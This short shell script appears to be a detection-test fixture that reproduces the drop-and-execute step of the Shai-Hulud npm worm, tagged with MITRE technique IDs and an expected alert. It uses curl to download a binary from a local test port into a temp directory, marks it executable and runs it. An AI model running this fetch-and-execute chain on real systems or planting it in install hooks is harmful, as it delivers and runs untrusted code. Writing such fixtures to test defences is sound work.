#!/bin/sh
# technique: T1105 Ingress Tool Transfer; T1059.004 Command and Scripting Interpreter: Unix Shell
# reproduces: Shai-Hulud npm worm (2025): the postinstall bundle downloaded a release binary into a temporary directory, made it executable and ran it
# expect: dropped-file-executed ^gh-telemetry$
# exec-borne: yes
#
# curl -o, chmod +x, run: the classic drop-and-execute, into a temp dir.
set -u

BIN_DIR=$(mktemp -d "${BW_ATTACK_TMP:?}/npm-XXXXXX")
trap 'rm -rf "$BIN_DIR"' EXIT
TOOL="$BIN_DIR/gh-telemetry"

curl -fsSL --connect-timeout 5 -o "$TOOL" "http://127.0.0.1:${BW_ATTACK_PORT:?}/agent" &&
	chmod +x "$TOOL" &&
	"$TOOL" --quiet
